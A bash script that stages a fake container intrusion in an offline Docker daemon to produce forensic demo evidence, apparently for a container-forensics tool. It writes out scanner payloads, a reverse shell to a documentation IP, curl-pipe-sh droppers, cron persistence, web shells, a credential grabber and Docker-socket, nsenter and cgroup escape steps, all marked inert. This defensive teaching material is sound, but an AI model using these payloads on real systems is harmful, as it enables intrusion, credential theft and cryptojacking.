#!/bin/bash
# Rebuild the "compromised webshop" demo evidence of this folder from scratch.
#
# Runs as root on Debian 12 with the Debian packages
#   docker.io (20.10) busybox-static python3 openssl gcc (gcc is optional)
# It starts its own dockerd (overlay2, no network, private data root and socket) in
# a temporary folder, builds acme/webshop:2.3 offline, runs the container `webshop`
# with risky settings, acts out an intrusion inside it with docker exec (every
# artefact is FAKE and inert: nothing is downloaded, nothing connects anywhere, no
# planted script is ever run), collects the evidence as an examiner would, stops
# the daemon and deletes the temporary folder. Nothing outside the temporary folder
# and this folder is written (the host's /etc is bind-mounted READ-ONLY into the
# container and never read by the story).
# Ids, digests and times change from run to run: demo-facts.txt is rewritten by
# every run and is the authority; README.md quotes the committed run.
# It takes about 70 seconds (the story is paced so that the log times make sense).
set -euo pipefail
umask 022
export LC_ALL=C TZ=UTC

OUT=$(cd "$(dirname "$0")" && pwd)
DOCKER=/usr/bin/docker          # Debian's 20.10 client (a newer one may shadow it in PATH)
PY=/usr/bin/python3
BUSYBOX=${BUSYBOX:-/bin/busybox} # from busybox-static: must be statically linked
PACE=${PACE:-0.35}              # seconds between two access-log lines

[ "$(id -u)" = 0 ] || { echo "run as root" >&2; exit 1; }
for t in dockerd "$DOCKER" "$PY" "$BUSYBOX" tar gzip sha256sum openssl mount umount base64; do
    command -v "$t" >/dev/null || { echo "missing: $t" >&2; exit 1; }
done
file -L "$BUSYBOX" 2>/dev/null | grep -q 'statically linked' \
    || echo "warning: $BUSYBOX may not be static (install busybox-static)" >&2

W=$(mktemp -d /tmp/dockscope-demo.XXXXXX)
DR="$W/docker"                  # the data root; its folder name is the tarball's top folder
H="$W/host"                     # stand-ins for host folders bound into the container
DPID=
cleanup() {
    set +e
    if [ -n "$DPID" ] && kill -0 "$DPID" 2>/dev/null; then
        "$DOCKER" -H "unix://$W/docker.sock" rm -f webshop >/dev/null 2>&1
        kill "$DPID"
        for _ in $(seq 1 30); do kill -0 "$DPID" 2>/dev/null || break; sleep 1; done
        kill -0 "$DPID" 2>/dev/null && kill -9 "$DPID"
        wait "$DPID" 2>/dev/null
    fi
    # anything left mounted below the temporary folder (deepest first), then the folder
    for _ in 1 2 3; do
        grep -F " $W" /proc/mounts | awk '{print $2}' | sort -r | while read -r m; do umount -l "$m"; done
    done
    rm -rf "$W"
}
trap cleanup EXIT

# ---------------------------------------------------------------- daemon
dockerd --data-root "$DR" --exec-root "$W/exec" --pidfile "$W/docker.pid" \
    -H "unix://$W/docker.sock" --iptables=false --ip6tables=false --bridge=none \
    --storage-driver overlay2 >"$W/dockerd.log" 2>&1 &
DPID=$!
d() { "$DOCKER" -H "unix://$W/docker.sock" "$@"; }
for _ in $(seq 1 60); do d version >/dev/null 2>&1 && break; sleep 1; done
d version >/dev/null || { cat "$W/dockerd.log" >&2; exit 1; }
DRIVER=$(d info --format '{{.Driver}}')
NATIVE=$(d info --format '{{range .DriverStatus}}{{if eq (index . 0) "Native Overlay Diff"}}{{index . 1}}{{end}}{{end}}')
SERVER_VERSION=$(d version --format '{{.Server.Version}}')
echo "dockerd $SERVER_VERSION, storage driver $DRIVER, native overlay diff: ${NATIVE:-n/a}"

# ---------------------------------------------------------------- fake values (all invented)
AWS_ID=AKIADSDEMO7Q2XK4FAKE                        # AKIA + 16 [A-Z0-9]
AWS_SECRET='wJdSdEmO/FaKeSeCrEt+DoCkScOpE/Xq7Lp2Nz8R' # 40 chars [A-Za-z0-9/+]
DB_PASSWORD='Wsh0p-Pr0d-2024!fake'
C2=203.0.113.7                                     # TEST-NET-3 (documentation addresses)
SCANNER=203.0.113.50
POOL='stratum+tcp://pool.example.invalid:3333'
WALLET=$($PY -c '
import hashlib
a = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
h = hashlib.shake_256(b"dockscope demo fake wallet").digest(94)
print("4" + a[h[0] % 9] + "".join(a[b % 58] for b in h[1:]))')   # 95 chars, Monero-like
SSH_KEY=$($PY -c '
import base64, hashlib, struct
k = hashlib.sha256(b"dockscope demo fake ed25519 key").digest()
b = struct.pack(">I", 11) + b"ssh-ed25519" + struct.pack(">I", 32) + k
print("ssh-ed25519 " + base64.b64encode(b).decode() + " root@kali")')
TOOR_HASH=$(openssl passwd -6 -salt ds0demo toor)
REVSHELL="bash -i >& /dev/tcp/$C2/4444 0>&1"
REVSHELL_B64=$(printf '#!/bin/sh\n%s\n' "$REVSHELL" | base64 -w0)
[ ${#AWS_SECRET} = 40 ] && [ ${#AWS_ID} = 20 ] && [ ${#WALLET} = 95 ]

# ---------------------------------------------------------------- base image acme/busybox:1.35
R="$W/rootfs"
mkdir -p "$R"/{bin,dev,etc,home,proc,root,srv,sys,tmp,usr/bin,usr/lib,usr/sbin,var/log,var/run,var/spool/cron/crontabs,var/tmp}
cp "$BUSYBOX" "$R/bin/busybox"
for a in sh ash awk base64 basename cat chmod chown cp cut date dd df dirname du echo env \
         false find grep gzip gunzip head hostname id kill less ln ls mkdir mktemp more mount \
         mv nc nslookup printf ps pwd readlink rm rmdir sed seq sleep sort stat tail tar tee \
         test top touch tr true umount uname uniq vi wc wget which xargs zcat crontab; do
    ln -s busybox "$R/bin/$a"
done
for a in httpd crond; do ln -s ../../bin/busybox "$R/usr/sbin/$a"; done
cat >"$R/etc/passwd" <<'EOF'
root:x:0:0:root:/root:/bin/sh
daemon:x:1:1:daemon:/usr/sbin:/bin/false
www-data:x:33:33:www-data:/srv/www:/bin/false
nobody:x:65534:65534:nobody:/nonexistent:/bin/false
EOF
cat >"$R/etc/group" <<'EOF'
root:x:0:
daemon:x:1:
www-data:x:33:
nogroup:x:65534:
EOF
cat >"$R/etc/shadow" <<'EOF'
root:*:19857:0:99999:7:::
daemon:*:19857:0:99999:7:::
www-data:*:19857:0:99999:7:::
nobody:*:19857:0:99999:7:::
EOF
cat >"$R/etc/profile" <<'EOF'
export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
export PS1='\h:\w\$ '
umask 022
EOF
cat >"$R/etc/os-release" <<'EOF'
NAME="ACME base"
ID=acme-busybox
VERSION_ID=1.35
PRETTY_NAME="ACME base image (BusyBox 1.35)"
EOF
chmod 0640 "$R/etc/shadow"
chmod 0700 "$R/root"
chmod 1777 "$R/tmp" "$R/var/tmp"
(cd "$R" && tar --sort=name --mtime='2024-05-14 08:00:00Z' --numeric-owner \
    --format=gnu -cf "$W/base.tar" bin dev etc home proc root srv sys tmp usr var)
d import -m 'ACME base rootfs: BusyBox 1.35 (busybox-static)' "$W/base.tar" acme/busybox:1.35 >/dev/null
BASE_SHA=sha256:$(sha256sum "$W/base.tar" | cut -d' ' -f1)

# ---------------------------------------------------------------- build context of acme/webshop:2.3
B="$W/build"
mkdir -p "$B"/www/{cgi-bin,static,uploads}
cat >"$B/www/index.html" <<'EOF'
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>ACME Webshop</title>
<link rel="stylesheet" href="/static/app.css"></head>
<body><h1>ACME Webshop</h1>
<p>Anvils, rockets and giant rubber bands since 1949.</p>
<p><a href="/shop.html">Shop</a> | <a href="/cgi-bin/products.cgi">Catalogue</a> | <a href="/cgi-bin/status.cgi">Status</a></p>
</body></html>
EOF
cat >"$B/www/shop.html" <<'EOF'
<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>ACME Webshop - Shop</title>
<link rel="stylesheet" href="/static/app.css"></head>
<body><h1>Shop</h1>
<form action="/cgi-bin/products.cgi"><input name="q"><button>Search</button></form>
<form action="/cgi-bin/cart.cgi" method="post"><input type="hidden" name="id" value="12"><button>Add to cart</button></form>
<form action="/cgi-bin/upload.cgi" method="post" enctype="multipart/form-data"><input type="file" name="avatar"><button>Upload avatar</button></form>
</body></html>
EOF
printf 'body{font-family:serif}\n/* old stylesheet, replaced in 2.3 */\n' >"$B/www/static/old.css"
printf 'body{font-family:serif}\n' >"$B/www/static/app.css"
: >"$B/www/uploads/.keep"
cat >"$B/www/cgi-bin/status.cgi" <<'EOF'
#!/bin/sh
echo "Content-Type: application/json"
echo
echo "{\"service\":\"webshop\",\"version\":\"2.3\",\"status\":\"ok\",\"time\":\"$(date -u +%FT%TZ)\"}"
EOF
cat >"$B/www/cgi-bin/products.cgi" <<'EOF'
#!/bin/sh
echo "Content-Type: text/html"
echo
echo "<h1>Catalogue</h1><pre>"
cat /var/cache/webshop/catalog.cache 2>/dev/null
echo "</pre>"
EOF
cat >"$B/www/cgi-bin/cart.cgi" <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo
echo "added to cart"
EOF
cat >"$B/www/cgi-bin/upload.cgi" <<'EOF'
#!/bin/sh
# avatar upload: stores the posted body below /srv/www/uploads (no type check - TODO)
echo "Content-Type: text/plain"
echo
name=$(echo "$QUERY_STRING" | sed -n 's/.*name=\([A-Za-z0-9_.-]*\).*/\1/p')
[ -n "$name" ] && cat > "/srv/www/uploads/$name" && echo "stored $name"
EOF
cat >"$B/www/cgi-bin/test.cgi" <<'EOF'
#!/bin/sh
# debug helper - remove before release
echo "Content-Type: text/plain"
echo
env
EOF
cat >"$B/httpd.conf" <<'EOF'
# /etc/httpd.conf - ACME webshop (busybox httpd)
H:/srv/www
A:*
*.cgi:/bin/sh
.css:text/css
.svg:image/svg+xml
.php:text/plain
/cgi-bin/admin:admin:changeme
EOF
cat >"$B/start.sh" <<'EOF'
#!/bin/sh
# ACME webshop 2.3 - container entrypoint
PORT=8080
while [ $# -gt 0 ]; do case "$1" in -p) PORT=$2; shift 2 ;; *) shift ;; esac; done
LOG=/var/log/httpd
mkdir -p "$LOG" /var/run
: >>"$LOG/access.log"
: >>"$LOG/error.log"
# a fresh catalogue cache on every start
rm -rf /var/cache/webshop && mkdir -p /var/cache/webshop
echo "catalog rebuilt $(date -u +%FT%TZ): 12 products" >/var/cache/webshop/catalog.cache
echo "webshop 2.3: httpd on :$PORT, docroot /srv/www, APP_ENV=${APP_ENV:-dev}"
[ "$(id -u)" = 0 ] && echo "webshop 2.3: warning: running as root" >&2
/usr/sbin/httpd -p "$PORT" -h /srv/www -c /etc/httpd.conf
# access log -> stdout, error log -> stderr (docker logs)
tail -n 0 -F "$LOG/error.log" >&2 &
echo $$ >/var/run/webshop.pid
exec tail -n 0 -F "$LOG/access.log"
EOF
cat >"$B/dot-env" <<EOF
APP_ENV=production
DB_HOST=db.internal.acme.example
DB_USER=webshop
DB_PASSWORD=$DB_PASSWORD
DATABASE_URL=postgres://webshop:$DB_PASSWORD@db.internal.acme.example:5432/shop
EOF
cat >"$B/Dockerfile" <<EOF
FROM acme/busybox:1.35
MAINTAINER ACME Web Team <web-team@acme.example>
LABEL org.opencontainers.image.title="webshop" org.opencontainers.image.version="2.3" \\
      org.opencontainers.image.vendor="ACME Corp" org.opencontainers.image.source="https://git.acme.example/web/webshop"
ADD www /srv/www
COPY httpd.conf /etc/httpd.conf
COPY start.sh /usr/local/bin/start.sh
RUN mkdir -p /var/log/httpd /var/cache/webshop /srv/data \\
 && chmod 755 /usr/local/bin/start.sh /srv/www/cgi-bin/*.cgi \\
 && echo "catalog 2.3: 12 products" > /var/cache/webshop/catalog.cache \\
 && echo "127.0.0.1 - - [\$(date -u '+%d/%b/%Y:%H:%M:%S +0000')] \\"GET /cgi-bin/status.cgi HTTP/1.1\\" 200 88 \\"-\\" \\"build-smoke-test/1.0\\"" > /var/log/httpd-access.log.1
RUN wget -q -O- http://get.acme-tools.example/helper/install.sh | sh; \\
    [ -x /usr/local/bin/helper ] || { cp /bin/busybox /usr/local/bin/helper && chmod 4755 /usr/local/bin/helper; }
ENV AWS_ACCESS_KEY_ID=$AWS_ID \\
    AWS_SECRET_ACCESS_KEY=$AWS_SECRET \\
    AWS_DEFAULT_REGION=eu-west-1 \\
    APP_ENV=production
COPY dot-env /srv/www/.env
RUN rm -f /srv/www/cgi-bin/test.cgi
RUN rm -rf /srv/www/static && mkdir -p /srv/www/static \\
 && printf 'body{font-family:sans-serif;margin:2em}\\n.price{color:#080}\\n' > /srv/www/static/app.css
EXPOSE 8080 22
USER root
WORKDIR /srv/www
ENTRYPOINT ["/usr/local/bin/start.sh"]
CMD ["-p", "8080"]
EOF
# the sources were checked out two days before the build
find "$B" -exec touch -h -d "@$(( $(date +%s) - 2 * 86400 ))" {} +
DOCKER_BUILDKIT=0 d build --network none --no-cache -t acme/webshop:2.3 "$B" >"$W/build.log"
IMAGE_ID=$(d image inspect --format '{{.Id}}' acme/webshop:2.3)
echo "built acme/webshop:2.3 $IMAGE_ID"

# ---------------------------------------------------------------- the container
mkdir -p "$H/var/run" "$H/srv/webshop-data"
: >"$H/var/run/docker.sock"              # a plain file standing in for the host's socket
chmod 0660 "$H/var/run/docker.sock"
printf 'order,customer,total\n1001,w.coyote@example.org,349.00\n1002,r.runner@example.org,12.50\n' \
    >"$H/srv/webshop-data/orders.csv"
# rshared propagation needs a shared mount as source: make the stand-in folder one
mount --bind "$H" "$H"
mount --make-rshared "$H"
# Notes: -p is accepted together with --network none but nothing is published (no
# docker-proxy, no listener): only HostConfig.PortBindings records it.
# The host's /etc is bound read-only (RT-03); the story never reads it.
d run -d --name webshop \
    --restart always \
    --network none \
    -p 0.0.0.0:2375:8080 \
    --pid host \
    --cap-add SYS_ADMIN --cap-add NET_ADMIN \
    --security-opt seccomp=unconfined \
    --security-opt apparmor=unconfined \
    --security-opt systempaths=unconfined \
    -v "$H/var/run/docker.sock:/var/run/docker.sock" \
    -v webshop-uploads:/srv/www/uploads \
    --mount "type=bind,source=$H/srv/webshop-data,target=/srv/data,bind-propagation=rshared" \
    -v /etc:/host/etc:ro \
    --log-driver json-file --log-opt max-size=16k --log-opt max-file=3 \
    acme/webshop:2.3 >/dev/null
CONTAINER_ID=$(d inspect --format '{{.Id}}' webshop)
for _ in $(seq 1 30); do d logs webshop 2>&1 | grep -q 'httpd on' && break; sleep 1; done
[ "$(d inspect --format '{{.State.Running}}' webshop)" = true ] || { d logs webshop; exit 1; }
echo "container webshop $CONTAINER_ID running"
sleep 2

# ---------------------------------------------------------------- story helpers
# acc IP "METHOD URI" STATUS BYTES "USER-AGENT" [REFERER]: one access-log line, written now
acc() {
    printf '%s - - [%s] "%s HTTP/1.1" %s %s "%s" "%s"\n' "$1" "$(date -u '+%d/%b/%Y:%H:%M:%S +0000')" \
        "$2" "$3" "$4" "${6:--}" "$5" | d exec -i webshop sh -c 'cat >>/var/log/httpd/access.log'
    sleep "$PACE"
}
# err "CLIENT" "TEXT": one error-log line (stderr of a CGI script, as a web server records it)
err() {
    printf '[%s] [cgi:error] [client %s] %s\n' "$(date -u '+%Y-%m-%dT%H:%M:%S.%3NZ')" "$1" "$2" \
        | d exec -i webshop sh -c 'cat >>/var/log/httpd/error.log'
    sleep 0.2
}
# put PATH MODE < content: the intruder writes a file inside the container (as root)
put() { d exec -i webshop sh -c 'mkdir -p "$(dirname "$1")" && cat >"$1" && chmod "$2" "$1"' sh "$1" "$2"; }
# x 'COMMAND': the intruder runs a command inside the container (as root)
x() { d exec webshop sh -c "$1"; }

CHROME='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36'
IPHONE='Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1'
FIREFOX='Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0'
NIKTO='Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)'
SQLMAP='sqlmap/1.7.2#stable (https://sqlmap.org)'
CURL='curl/7.88.1'
SHOP=http://shop.acme.example

# ---------------------------------------------------------------- phase 1: normal traffic
acc 127.0.0.1 "GET /cgi-bin/status.cgi" 200 88 "Wget"
acc 198.51.100.23 "GET /" 200 412 "$CHROME"
acc 198.51.100.23 "GET /static/app.css" 200 63 "$CHROME" "$SHOP/"
acc 198.51.100.23 "GET /favicon.ico" 404 0 "$CHROME" "$SHOP/"
acc 198.51.100.23 "GET /shop.html" 200 702 "$CHROME" "$SHOP/"
acc 198.51.100.23 "GET /cgi-bin/products.cgi?q=anvil" 200 188 "$CHROME" "$SHOP/shop.html"
acc 198.51.100.23 "POST /cgi-bin/cart.cgi" 200 14 "$CHROME" "$SHOP/shop.html"
acc 198.51.100.41 "GET /" 200 412 "$IPHONE"
acc 198.51.100.41 "GET /static/app.css" 200 63 "$IPHONE" "$SHOP/"
acc 198.51.100.41 "GET /cgi-bin/products.cgi" 200 188 "$IPHONE" "$SHOP/"
acc 192.0.2.15 "GET /" 304 0 "$FIREFOX"
acc 192.0.2.15 "GET /shop.html" 200 702 "$FIREFOX" "$SHOP/"
acc 192.0.2.15 "GET /cgi-bin/products.cgi?q=rocket+skates" 200 188 "$FIREFOX" "$SHOP/shop.html"
acc 192.0.2.15 "POST /cgi-bin/cart.cgi" 200 14 "$FIREFOX" "$SHOP/shop.html"
acc 127.0.0.1 "GET /cgi-bin/status.cgi" 200 88 "Wget"
acc 198.51.100.77 "GET /" 200 412 "$CHROME"
acc 198.51.100.77 "GET /cgi-bin/products.cgi?q=bird+seed" 200 188 "$CHROME" "$SHOP/"
acc 198.51.100.77 "POST /cgi-bin/upload.cgi?name=avatar_77.png" 200 24 "$CHROME" "$SHOP/shop.html"
put /srv/www/uploads/avatar_77.png 0644 < <(printf '\x89PNG\r\n\x1a\n(fake avatar)\n')
acc 198.51.100.77 "GET /uploads/avatar_77.png" 200 23 "$CHROME" "$SHOP/shop.html"
sleep 2

# ---------------------------------------------------------------- phase 2: scan (203.0.113.50)
acc "$SCANNER" "GET /" 200 412 "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"
for p in /.git/config /.git/HEAD /server-status /phpinfo.php /wp-login.php /admin/ /.aws/credentials \
         /.docker/config.json /actuator/env /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php \
         /cgi-bin/test.cgi /.htpasswd /HNAP1/ /manager/html; do
    acc "$SCANNER" "GET $p" 404 0 "$NIKTO"
done
acc "$SCANNER" "GET /.env" 200 212 "$NIKTO"
acc "$SCANNER" "GET /cgi-bin/status.cgi" 200 88 '() { :; }; echo; /bin/bash -c id'
acc "$SCANNER" "GET /" 200 412 "\${jndi:ldap://$C2:1389/Basic/Command/Base64/$(printf 'wget http://%s/x -O /tmp/update.sh' "$C2" | base64 -w0)}"
acc "$SCANNER" "GET /shop.html" 200 702 "$CHROME" "\${\${lower:j}ndi:\${lower:l}dap://$C2:1389/a}"
acc "$SCANNER" "GET /shop.html?q=%7B%7B7*7%7D%7D" 200 702 "$CHROME"
acc "$SCANNER" "GET /shop.html?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E" 200 702 "$CHROME"
acc "$SCANNER" "GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/" 404 0 "$CHROME"
acc "$SCANNER" "POST /cgi-bin/cart.cgi?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di" 200 14 "$CHROME"
acc "$SCANNER" "GET /cgi-bin/products.cgi?id=12%27%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716a6b7071,user(),0x7170767a71),NULL--%20-" 200 188 "$SQLMAP"
acc "$SCANNER" "GET /cgi-bin/products.cgi?id=12%20AND%20SLEEP(5)" 200 188 "$SQLMAP"
acc "$SCANNER" "GET /cgi-bin/../../../../etc/passwd" 400 0 "$CURL"
sleep 3

# ---------------------------------------------------------------- phase 3: exploitation (203.0.113.7)
acc "$C2" "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd" 200 151 "$CURL"
acc "$C2" "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh" 200 39 "$CURL"
# the POST body wrote a command web shell into cgi-bin
put /srv/www/cgi-bin/up.cgi 0755 <<'EOF'
#!/bin/sh
echo "Content-Type: text/plain"
echo
c=$(httpd -d "${QUERY_STRING#c=}")
sh -c "$c" 2>&1
EOF
acc "$C2" "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh" 200 0 "$CURL"
sleep 1
acc "$C2" "GET /cgi-bin/up.cgi?c=id" 200 39 "$CURL"
acc "$C2" "POST /cgi-bin/up.cgi?c=id" 200 39 "$CURL"
acc "$C2" "GET /cgi-bin/up.cgi?c=uname%20-a" 200 98 "$CURL"
acc "$C2" "GET /cgi-bin/up.cgi?c=cat%20/proc/1/cgroup" 200 402 "$CURL"
acc "$C2" "GET /cgi-bin/up.cgi?c=ls%20-la%20/.dockerenv%20/var/run/docker.sock" 200 131 "$CURL"
acc "$C2" "GET /cgi-bin/up.cgi?c=cat%20/etc/passwd" 200 151 "$CURL"
# the injected download commands, run for real: the container has no network, so they fail
acc "$C2" "GET /cgi-bin/up.cgi?c=wget%20http://$C2/x%20-O%20/tmp/update.sh" 200 98 "$CURL"
{ x "cd /tmp && wget http://$C2/x -O /tmp/update.sh" 2>&1 || true; } | while IFS= read -r l; do
    err "$C2" "$l: /srv/www/cgi-bin/up.cgi"
done
x 'rm -f /tmp/update.sh'
acc "$C2" "GET /cgi-bin/up.cgi?c=curl%20-fsSL%20http://$C2/x%20%7C%20sh" 200 22 "$CURL"
{ x "curl -fsSL http://$C2/x | sh" 2>&1 || true; } | while IFS= read -r l; do
    err "$C2" "$l: /srv/www/cgi-bin/up.cgi"
done
# plan B: the dropper is posted inline, base64-encoded
UPDATE_SH=$(cat <<EOF
#!/bin/sh
# sysupdate
export PATH=/bin:/sbin:/usr/bin:/usr/sbin:/usr/local/bin
cd /tmp || cd /var/tmp || cd /dev/shm
curl -fsSL http://$C2/x | sh || wget -q -O - http://$C2/x | sh
echo $REVSHELL_B64 | base64 -d | sh
mkdir -p /tmp/.X11-unix/.x && cd /tmp/.X11-unix/.x
[ -x ./xmrig ] || { wget -q http://$C2/xmrig -O xmrig && chmod 755 xmrig; }
nohup ./xmrig -c config.json >&2 &
echo '$REVSHELL' > /dev/shm/.r.sh && chmod +x /dev/shm/.r.sh
EOF
)
UPDATE_B64=$(printf '%s\n' "$UPDATE_SH" | base64 -w0)
acc "$C2" "POST /cgi-bin/up.cgi?c=echo%20$UPDATE_B64%20%7C%20base64%20-d%20%3E%20/tmp/update.sh%3Bchmod%20755%20/tmp/update.sh" 200 0 "$CURL"
x "echo $UPDATE_B64 | base64 -d > /tmp/update.sh; chmod 755 /tmp/update.sh"
sleep 1
acc "$C2" "GET /cgi-bin/up.cgi?c=sh%20/tmp/update.sh" 200 0 "$CURL"
# what the dropper left behind (planted by hand: nothing is downloaded or run)
x 'mkdir -p /tmp/.X11-unix/.x && cp /bin/busybox /tmp/.X11-unix/.x/xmrig && chmod 755 /tmp/.X11-unix/.x/xmrig'
put /tmp/.X11-unix/.x/config.json 0644 <<EOF
{
    "autosave": true,
    "donate-level": 0,
    "cpu": { "enabled": true, "huge-pages": true, "max-threads-hint": 75 },
    "randomx": { "1gb-pages": false, "mode": "fast" },
    "pools": [{"url": "$POOL", "user": "$WALLET", "pass": "webshop", "algo": "rx/0", "keepalive": true, "tls": false}]
}
EOF
x "printf '%s\n' '$REVSHELL' > /dev/shm/.r.sh && chmod +x /dev/shm/.r.sh"
# XMRig's start-up output through the CGI's stderr (imitated: no miner runs here)
xm() { printf '[%s]  %s' "$(date -u '+%Y-%m-%d %H:%M:%S.%3N')" "$1"; }
err "$C2" " * ABOUT        XMRig/6.21.0 gcc/9.3.0: /srv/www/cgi-bin/up.cgi"
err "$C2" " * POOL #1      $POOL algo rx/0: /srv/www/cgi-bin/up.cgi"
err "$C2" " * DONATE       0%: /srv/www/cgi-bin/up.cgi"
err "$C2" "$(xm 'config   configuration saved to: "/tmp/.X11-unix/.x/config.json"'): /srv/www/cgi-bin/up.cgi"
err "$C2" "$(xm 'net      pool.example.invalid:3333 DNS error: "unknown node or service"'): /srv/www/cgi-bin/up.cgi"
sleep 2
err "$C2" "$(xm 'net      no active pools, stop mining'): /srv/www/cgi-bin/up.cgi"
sleep 2

# ---------------------------------------------------------------- phase 4: persistence and hiding
acc "$C2" "GET /cgi-bin/up.cgi?c=crontab%20-l" 200 0 "$CURL"
put /var/spool/cron/crontabs/root 0600 <<EOF
@reboot /tmp/update.sh
*/5 * * * * curl -fsSL http://$C2/x | sh || wget -q -O - http://$C2/x | sh
EOF
put /etc/cron.d/sysupdate 0644 <<EOF
SHELL=/bin/sh
PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin
@reboot root /tmp/update.sh >/dev/null 2>&1
*/5 * * * * root curl -fsSL http://$C2/x | sh >/dev/null 2>&1
EOF
x "mkdir -p /root/.ssh && chmod 700 /root/.ssh && echo '$SSH_KEY' >> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys"
x "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd && echo 'toor:$TOOR_HASH:$(( $(date +%s) / 86400 )):0:99999:7:::' >> /etc/shadow"
# inert stand-in for libprocesshider: a tiny shared object with the usual strings and NO hooks
cat >"$W/ph.c" <<'EOF'
/* dockscope demo: inert stand-in for libprocesshider.so - it hooks nothing */
static const char process_to_filter[] = "xmrig";
static const char hints[] = "readdir readdir64 dlsym RTLD_NEXT /proc/self/fd/%d /proc/%s/stat";
const char *dsdemo_processhider_info(void) { return process_to_filter[0] ? hints : process_to_filter; }
EOF
if command -v gcc >/dev/null && gcc -shared -fPIC -Os -s -nostdlib -Wl,-z,noseparate-code \
        -Wl,--build-id=none -o "$W/libprocesshider.so" "$W/ph.c" 2>/dev/null; then
    SO_KIND=elf
else
    printf 'libprocesshider stand-in (no compiler): xmrig readdir readdir64 /proc/self/fd/%%d\n' >"$W/libprocesshider.so"
    SO_KIND=text
fi
put /usr/lib/libprocesshider.so 0755 <"$W/libprocesshider.so"
x 'echo /usr/lib/libprocesshider.so > /etc/ld.so.preload'
# ps that hides the miner (replaces the busybox symlink)
x 'rm /bin/ps'
put /bin/ps 0755 <<'EOF'
#!/bin/sh
/bin/busybox ps "$@" | /bin/busybox grep -v -e xmrig -e '\.X11-unix' -e '/dev/shm'
EOF
x 'echo "[ -x /tmp/update.sh ] && (/tmp/update.sh >/dev/null 2>&1 &)" >> /etc/profile'
x 'cp /bin/busybox /tmp/.sh && chmod 4755 /tmp/.sh'
# competing miners' pools pointed at nowhere (lands in containers/<id>/hosts, not in the diff)
x 'printf "127.0.0.1 pool.supportxmr.com\n127.0.0.1 xmr.crypto-pool.fr\n127.0.0.1 pool.minexmr.com\n" >> /etc/hosts'
acc "$C2" "GET /.cache.php?c=id" 200 30 "$CURL"
put /srv/www/.cache.php 0644 <<'EOF'
<?php system($_GET['c']); ?>
EOF
acc "$C2" "GET /.cache.php?c=id" 200 30 "$CURL"
acc "$C2" "POST /cgi-bin/upload.cgi?name=img_2231.php" 200 21 "$CURL"
put /srv/www/uploads/img_2231.php 0644 <<'EOF'
GIF89a;
<?php @eval(base64_decode($_POST['x'])); ?>
EOF
acc "$C2" "POST /uploads/img_2231.php" 200 0 "$CURL"
sleep 2

# ---------------------------------------------------------------- phase 5: credentials, escape plans
acc "$C2" "GET /cgi-bin/up.cgi?c=env" 200 512 "$CURL"
put /tmp/.X11-unix/.x/grab.sh 0755 <<'EOF'
#!/bin/sh
# collect credentials (never run in this demo)
L=/tmp/.X11-unix/.x/.loot
env | grep -i -E 'aws_|secret|passw|token' >> $L
grep -r -l -E 'aws_access_key_id|BEGIN [A-Z ]*PRIVATE KEY|id_rsa' /root /home /srv 2>/dev/null >> $L
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ >> $L
cat /var/run/secrets/kubernetes.io/serviceaccount/token >> $L 2>/dev/null
curl -sk https://10.0.0.1:10250/pods >> $L
for h in $(awk '{print $1}' /root/.ssh/known_hosts 2>/dev/null); do
  ssh -oBatchMode=yes -oStrictHostKeyChecking=no root@$h 'curl -fsSL http://203.0.113.7/x | sh' &
done
EOF
x 'env | grep -i -E "aws_|secret|passw|token" > /tmp/.X11-unix/.x/.loot'
x "mkdir -p /root/.aws && printf '[default]\naws_access_key_id = %s\naws_secret_access_key = %s\nregion = eu-west-1\n' \"\$AWS_ACCESS_KEY_ID\" \"\$AWS_SECRET_ACCESS_KEY\" > /root/.aws/credentials && chmod 600 /root/.aws/credentials"
x 'cd / && tar -czf /tmp/.X11-unix/.x/etc.tgz etc/passwd etc/shadow etc/group etc/httpd.conf srv/www/.env'
acc "$C2" "GET /cgi-bin/up.cgi?c=ls%20-la%20/host/etc%20/srv/data" 200 733 "$CURL"
put /tmp/.X11-unix/.x/esc.sh 0755 <<'EOF'
#!/bin/sh
# way out (never run in this demo)
S=/var/run/docker.sock
# 1. the docker socket is mounted: start a privileged container with the host's / bound
curl -s --unix-socket $S -H 'Content-Type: application/json' -X POST \
  -d '{"Image":"acme/webshop:2.3","Entrypoint":["/bin/sh","-c"],"Cmd":["chroot /host sh -c \"curl -fsSL http://203.0.113.7/x | sh\""],"HostConfig":{"Binds":["/:/host"],"Privileged":true,"PidMode":"host"}}' \
  'http://localhost/containers/create?name=sysupdate'
curl -s --unix-socket $S -X POST http://localhost/containers/sysupdate/start
# 2. the host's pid namespace is shared and CAP_SYS_ADMIN is there
nsenter -t 1 -m -u -i -n -p -- sh -c 'curl -fsSL http://203.0.113.7/x | sh'
# 3. cgroup v1 release_agent
mkdir -p /tmp/cgrp && mount -t cgroup -o rdma cgroup /tmp/cgrp && mkdir -p /tmp/cgrp/x
echo 1 > /tmp/cgrp/x/notify_on_release
echo "$(sed -n 's/.*upperdir=\([^,]*\).*/\1/p' /proc/mounts)/cmd" > /tmp/cgrp/release_agent
EOF
